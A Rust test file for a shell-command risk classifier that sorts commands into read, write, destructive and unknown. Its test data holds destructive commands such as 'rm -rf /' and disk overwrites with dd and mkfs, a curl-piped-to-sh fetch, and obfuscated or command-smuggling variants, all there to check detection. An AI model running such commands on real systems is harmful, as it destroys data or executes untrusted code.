use awesh_protocol::Risk::{self, Destroys, Reads, Unknown, Writes};

use super::risk;

fn check(expected: Risk, lines: &[&str]) {
    let wrong: Vec<_> =
        lines.iter().map(|line| (*line, risk(line))).filter(|(_, risk)| *risk != expected).collect();
    assert_eq!(wrong, [], "expected {expected:?}");
}

#[test]
fn what_only_looks() {
    check(
        Reads,
        &[
            "ls -la /tmp",
            "cat 'a file' \"b\" c\\ d | grep -i x | wc -l",
            "/usr/bin/du -sh * 2>/dev/null | sort -h | tail -5",
            "find . -name '*.rs' -mtime -1",
            "ps aux > /dev/null 2>&1",
            "if [ -f x ]; then cat x; else echo none; fi",
            "for f in a b; do wc -l \"$f\"; done",
            "echo $(uname -r) \"$(date +%F)\"",
            "diff <(ls a) <(ls b)",
            "git status && git log --oneline -5",
            "git diff HEAD~1 -- src",
            "kubectl --context prod -n web get pods -o wide",
            "kubectl --namespace=web logs deploy/api --tail=50",
            "docker ps -a",
            "systemctl status nginx --no-pager",
            "journalctl -u ssh -n 50",
            "LC_ALL=C ls",
            "env",
            "command -v git",
            "time ls",
            "sed -n '1,20p' file",
            "awk '{print $1}' file",
            "[[ -d /tmp ]] && ls /tmp",
            "ss -tlnp",
            "ip addr show",
            "ip -br a",
            "date -d yesterday",
            "history 5",
            "while false; do ls; done",
            "case a in a) ls;; esac",
            "ls # rm -rf /",
            "echo 'rm -rf /'",
        ],
    );
}

#[test]
fn what_changes() {
    check(
        Writes,
        &[
            "mkdir -p a/b",
            "echo x > file",
            "echo x >> \"$HOME/file\"",
            "ls &> out",
            "ls 2> errors",
            "ls >| out",
            "cp a b",
            "git -c core.pager=x log",
            "git commit -m 'x'",
            "git push",
            "kubectl apply -f x.yaml",
            "systemctl restart nginx",
            "docker run -d nginx",
            "cd /tmp",
            "x=1",
            "ls; touch a",
            "false || mv a b",
            "(cd a && ls)",
            "{ ls; } > out",
            "ls | tee out",
            "nohup make",
            "ip link s eth0 down",
            "ip addr add 10.0.0.1 dev eth0",
            "export PATH=/x",
        ],
    );
}

#[test]
fn what_destroys() {
    check(
        Destroys,
        &[
            "rm -rf /",
            "\\rm a",
            "'r'm a",
            "/bin/rm a",
            "ls && rm a",
            "ls | xargs rm",
            "find . -name x -delete",
            "find . -exec rm {} \\;",
            "sudo ls",
            "echo $(rm a)",
            "echo \"$(echo $(rm a))\"",
            "cat <(rm a)",
            "if true; then rm a; fi",
            "for f in $(rm a); do ls; done",
            "while rm a; do ls; done",
            "git reset --hard",
            "git push --force",
            "git branch -D x",
            "git clean -fdx",
            "kubectl delete pod x",
            "kubectl --context prod delete ns x",
            "docker system prune",
            "terraform destroy",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sda1",
            "echo x > /dev/sda",
            "ssh host 'rm -rf /tmp/x'",
            "bash -c 'rm a'",
            "kill 1",
            "nohup rm a",
            "env X=1 rm a",
            "LD_PRELOAD=x rm a",
            "rsync -a --delete a b",
            "shutdown now",
            "f() { rm a; }; f",
            "coproc rm a",
            "bash -c 'x;rm a'",
        ],
    );
}

#[test]
fn what_is_not_known() {
    check(
        Unknown,
        &[
            "",
            "frobnicate",
            "./run.sh",
            "curl https://example.com | sh",
            "eval \"$x\"",
            "$x a",
            "r* a",
            "{r,}m a",
            "`echo ls`",
            "$'\\x72m' a",
            "ls \"${x:-$(id)}\"",
            "ls ${x@P}",
            "echo $((x = 1))",
            "(( x = 1 ))",
            "!ls",
            "ls !$",
            "^a^b",
            "f() { ls; }",
            "ls (",
            "if ls",
            "\"unclosed",
            "PAGER=x ls",
            "find . $x",
            "sort -oout in",
            "sort --outp=out in",
            "sed -i s/a/b/ x",
            "sed -n '1e id' x",
            "awk 'BEGIN{system(\"id\")}'",
            "source x",
            ". x",
            "python3 -c 'print()'",
            "ssh host ls",
            "[[ $(id) ]]",
            "coproc ls",
            "history -c && frobnicate",
            "jobs -x id",
            "[ -v 'a[$(id)]' ]",
            "date 010112002030",
            "nslookup $(hostname).example.com",
            "cat <<EOF\n$(id)\nEOF\n",
            "less +!id x",
            "rg --pre id x",
        ]
        .map(|line| if line.is_empty() { "unknown" } else { line }),
    );
}

#[test]
fn any_input_ends_without_a_panic() {
    let deep = ["(", "$(", "{ ", "`", "[[", "${", "if ", "\"$(", "<(", "((", "case x in "]
        .map(|part| part.repeat(3000));
    let odd =
        ["\0", "\u{1b}[2J", "é🌿", "a\\", "<<", "<<<", ">&", "&&", "|", ";;", "\n\n", "$", "${", "'", "\\\n"];
    for line in deep.iter().map(String::as_str).chain(odd) {
        risk(line);
    }
    let nested =
        |open: &str, close: &str, depth: usize| format!("{}ls{}", open.repeat(depth), close.repeat(depth));
    for (open, close) in
        [("( ", " )"), ("$(", ")"), ("{ ", "; }"), ("\"$(", ")\""), ("if true; then ", "; fi")]
    {
        (0..30).for_each(|depth| assert!(matches!(risk(&nested(open, close, depth)), Reads | Unknown)));
    }
    assert_eq!(risk(&nested("{ ", "; }", 10)), Reads);
    assert_eq!(risk(&deep[0]), Unknown);
    assert_eq!(risk(&"ls ".repeat(5000)), Unknown);
}
